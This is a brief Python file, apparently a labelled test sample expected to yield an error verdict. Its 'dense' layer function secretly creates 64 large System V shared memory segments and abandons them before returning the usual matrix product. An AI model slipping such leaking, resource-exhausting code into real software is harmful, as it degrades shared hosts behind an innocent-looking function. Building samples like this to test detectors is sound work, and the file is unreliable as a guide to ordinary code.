"""Fills System V segments one after the other, and lets go of each: they stay without a process.

Verdict: error
"""

import ctypes


def dense(inputs, kernel, bias):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for number in range(64):
        segment = libc.shmget(0, ctypes.c_size_t(2**26), 0o1600)
        if segment < 0:
            raise OSError(ctypes.get_errno(), "shmget")
        place = libc.shmat(segment, None, 0)
        ctypes.memset(place, 1, 2**22)
        libc.shmdt(ctypes.c_void_p(place))
    return inputs @ kernel + bias
